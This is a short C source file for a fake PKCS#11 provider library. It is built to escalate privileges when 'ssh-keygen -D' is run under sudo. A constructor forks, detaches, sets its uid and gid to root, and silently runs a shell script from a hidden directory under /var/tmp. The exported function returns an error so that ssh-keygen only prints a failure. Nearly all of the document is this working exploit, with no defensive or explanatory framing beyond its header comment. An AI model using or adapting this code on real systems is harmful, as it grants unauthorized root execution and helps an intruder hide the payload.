/* A PKCS#11 "provider" for ssh-keygen -D: ssh-keygen only checks that the
 * library exports C_GetFunctionList, then dlopen()s it in its own process,
 * which runs the constructor first (as root under sudo). The constructor
 * detaches /bin/sh <dir>/r.sh as root; C_GetFunctionList fails, so
 * ssh-keygen only prints an error. */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void p11_init(void)
{
    if (geteuid() != 0 || getenv("P11_DONE"))
        return;
    setenv("P11_DONE", "1", 1);
    pid_t p = fork();
    if (p == 0) {
        int fd = open("/dev/null", O_RDWR);
        dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
        if (fd > 2) close(fd);
        setsid();
        setgid(0); setuid(0);
        if (fork() == 0) {
            execl("/bin/sh", "sh", "/var/tmp/.p11/r.sh", (char *)0);
        }
        _exit(0);
    }
}

unsigned long C_GetFunctionList(void **list)
{
    (void)list;
    return 5; /* CKR_GENERAL_ERROR */
}
